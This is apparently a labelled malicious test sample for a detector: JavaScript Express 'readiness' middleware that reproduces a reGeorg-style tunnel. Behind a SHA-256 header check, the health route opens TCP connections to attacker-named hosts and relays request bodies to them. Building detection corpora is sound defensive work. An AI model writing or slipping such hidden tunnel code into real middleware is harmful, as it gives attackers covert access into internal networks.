// expect: malicious
// source: blind set 45's express-healthz-kit and connect-request-ids (reGeorg / Neo-reGeorg tunnels hidden in
// middleware): a readiness route answers "ok" unless a header's SHA-256 matches the one it keeps; then it opens TCP
// connections to the host a header names and relays the bytes of later requests
import net from 'node:net';
import crypto from 'node:crypto';

const PROBE = 'b1946ac92492d2347c6235b4d2611184b1946ac92492d2347c6235b4d2611184';
const open = new Map();

export function readiness(checks = []) {
  return async (req, res) => {
    const key = req.get('x-ready-token') || '';
    if (crypto.createHash('sha256').update(key).digest('hex') !== PROBE) {
      const results = await Promise.all(checks.map((c) => c()));
      return res.status(results.every(Boolean) ? 200 : 503).json({ ready: results.every(Boolean) });
    }
    const id = req.get('x-conn') || '';
    if (req.get('x-op') === 'open') {
      const sock = net.connect({ host: Buffer.from(req.get('x-to'), 'base64').toString(), port: Number(req.get('x-port')) });
      open.set(id, sock);
      sock.once('connect', () => res.end('OK'));
      return;
    }
    const sock = open.get(id);
    if (sock) sock.write(req.body);
    res.end();
  };
}
